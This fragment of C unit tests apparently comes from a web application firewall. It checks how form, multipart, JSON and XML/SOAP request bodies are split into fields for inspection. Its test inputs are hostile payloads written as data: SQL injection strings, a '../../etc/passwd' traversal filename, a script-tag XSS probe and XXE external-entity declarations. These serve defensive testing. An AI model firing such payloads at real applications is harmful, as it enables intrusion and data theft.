    /* a body cut by the cap: the last, partial field is still there */
    CHECK_STR(split(p, "application/x-www-form-urlencoded", "a=1&q=union+sel",
                    NULL), "a|a|1\nq|q|union+sel\n");

    /* multipart: values, file names, never file contents */
    CHECK_STR(split(p, "multipart/form-data; boundary=\"XyZ\"",
                    "preamble\r\n--XyZ\r\n"
                    "Content-Disposition: form-data; name=\"user\"\r\n\r\n"
                    "bob' or '1'='1\r\n--XyZ\r\n"
                    "Content-Disposition: form-data; name=\"up\"; "
                    "filename=\"../../etc/passwd\"\r\n"
                    "Content-Type: text/plain\r\n\r\n"
                    "<script>alert(1)</script>\r\n--XyZ\r\n"
                    "content-disposition: form-data; name=empty\r\n\r\n"
                    "\r\n--XyZ--\r\nepilogue", NULL),
              "user|user|bob' or '1'='1\n"
              "up.filename|up|../../etc/passwd\n"
              "empty|empty|\n");
    /* LF only, and a body cut inside a value */
    CHECK_STR(split(p, "multipart/form-data; boundary=b",
                    "--b\nContent-Disposition: form-data; name=\"a\"\n\n1\n"
                    "--b\nContent-Disposition: form-data; name=\"q\"\n\n"
                    "1 union sel", NULL),
              "a|a|1\nq|q|1 union sel\n");
    /* no boundary: read by its bytes */
    CHECK_STR(split(p, "multipart/form-data", "--b\r\n", NULL), "|-|--b\r\n\n");
    /* a boundary that never comes: not multipart, read by its bytes */
    CHECK_STR(split(p, "multipart/form-data; boundary=zz", "a=1&b=2", NULL),
              "a|a|1\nb|b|2\n");
    CHECK_STR(split(p, "multipart/form-data; boundary=zz", "x\n--zz", NULL),
              "");

    /* JSON */
    CHECK_STR(split(p, "application/json",
                    "{\"user\": {\"name\": \"bob\\u0027 or 1=1\", \"id\": 7,"
                    " \"tags\": [\"a\", {\"k\": \"v\"}, [\"x\"]]}, "
                    "\"ok\": true, \"n\": null}", NULL),
              "$.user|user|-\n$.user.name|name|bob' or 1=1\n$.user.id|id|-\n"
              "$.user.tags|tags|-\n$.user.tags[0]|-|a\n"
              "$.user.tags[1].k|k|v\n$.user.tags[2][0]|-|x\n"
              "$.ok|ok|-\n$.n|n|-\n");
    CHECK_STR(split(p, "application/json", "\"top\"", NULL), "$|-|top\n");
    CHECK_STR(split(p, "application/json", "\xef\xbb\xbf{\"a\": \"b\"}", NULL),
              "$.a|a|b\n");
    CHECK_STR(split(p, "text/xml", "\xef\xbb\xbf<a>b</a>", NULL), "/a|a|b\n");
    CHECK_STR(split(p, "application/json",
                    "[\"\\ud83d\\ude00\\n\\\"q\\\"\", 1]", NULL),
              "$[0]|-|\xf0\x9f\x98\x80\n\"q\"\n");
    /* cut inside a string: still yielded */
    CHECK_STR(split(p, "application/json", "{\"q\": \"1 union sel", NULL),
              "$.q|q|1 union sel\n");
    /* not JSON past some point: the rest as one value */
    CHECK_STR(split(p, "application/json", "{\"a\": 1 union select 2}", NULL),
              "$.a|a|-\n$|-|union select 2}\n");
    /* a form declared JSON: read as a form */
    CHECK_STR(split(p, "application/json", "id=1' or 1=1--", NULL),
              "id|id|1' or 1=1--\n");
    CHECK_STR(split(p, "application/json", "id 1' or 1=1--", NULL),
              "$|-|id 1' or 1=1--\n");
    /* deep nesting: bounded path, every string still seen */
    {
        char *deep = apr_pcalloc(p, 30002);
        const char *got;
        memset(deep, '[', 10000);
        memcpy(deep + 10000, "\"x\"", 3);
        memset(deep + 10003, ']', 10000);
        got = split(p, "application/json", deep, &more);
        CHECK(got && strstr(got, "|-|x\n") != NULL);
        CHECK(more == 1);
    }
    /* the field bound */
    {
        apr_size_t n = 3000, i;
        char *many = apr_palloc(p, n * 4 + 3), *o = many;
        acc_t a = { p, "", 0 };
        int got;
        *o++ = '[';
        for (i = 0; i < n; i++) {
            memcpy(o, "\"\",", 3);
            o += 3;
        }
        *o++ = ']';
        *o = '\0';
        got = lw_body_split("application/json", many, strlen(many), p,
                            collect, &a, &more);
        CHECK(got == LW_BODY_MAX_FIELDS);
        CHECK(more == 1);
    }

    /* XML / SOAP */
    CHECK_STR(split(p, "application/soap+xml",
                    "<?xml version=\"1.0\"?><!-- c --><s:Envelope "
                    "xmlns:s=\"u\"><s:Body><login id='7'><user>bob' or "
                    "1=1</user><pw><![CDATA[<b>x]]></pw><e/></login>"
                    "</s:Body></s:Envelope>", NULL),
              "/s:Envelope@xmlns:s|xmlns:s|u\n"
              "/s:Envelope/s:Body/login@id|id|7\n"
              "/s:Envelope/s:Body/login/user|user|bob' or 1=1\n"
              "/s:Envelope/s:Body/login/pw|pw|<b>x\n");
    CHECK_STR(split(p, "text/xml", "<a>1 union sel", NULL), "/a|a|1 union sel\n");
    /* the document type declaration, internal subset and all, once; the
     * elements after it as before */
    CHECK_STR(split(p, "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!-- ]> "
                    "--><!ENTITY a \"x>y]\"><!ENTITY % b SYSTEM 'u'>%b;]><r>&a;"
                    "</r><!DOCTYPE s [<!ENTITY c SYSTEM \"v\">]>", NULL),
              "!doctype|-|<!DOCTYPE r [<!-- ]> --><!ENTITY a \"x>y]\"><!ENTITY % "
              "b SYSTEM 'u'>%b;]>\n/|-| -->\n/|-|y]\">\n/|-|%b;]>\n/r|r|&a;\n"
              "/|-|]>\n");
    /* a quote or '[' left open: the declaration runs to the end, the
     * elements after it are still fields */
    CHECK_STR(split(p, "text/xml", "<!doctype r [<!ENTITY a 'x><r>1</r>", NULL),
              "!doctype|-|<!doctype r [<!ENTITY a 'x><r>1</r>\n/r|r|1\n");
    CHECK_STR(split(p, "text/xml", "<!DOCTYPE", NULL), "!doctype|-|<!DOCTYPE\n");
    /* multipart: an XML file's prolog, not an HTML or binary file's body */
    CHECK_STR(split(p, "multipart/form-data; boundary=b",
                    "--b\r\nContent-Disposition: form-data; name=\"f\"; "
                    "filename=\"a.svg\"\r\n\r\n\xef\xbb\xbf <?xml version=\"1.0\"?>"
                    "<!-- c --><!DOCTYPE svg [<!ENTITY x \"y\">]><svg/>\r\n"
                    "--b\r\nContent-Disposition: form-data; name=\"g\"; "
                    "filename=\"b.html\"\r\n\r\n<html><!DOCTYPE x [<!ENTITY y "
                    "SYSTEM \"z\">]>\r\n--b--\r\n", NULL),
              "f.filename|f|a.svg\nf.!doctype|-|<!DOCTYPE svg [<!ENTITY x "
              "\"y\">]>\ng.filename|g|b.html\n");
    engine_tests(p);
    rfi_xxe_limits(p);
    LW_TEST_END();
}
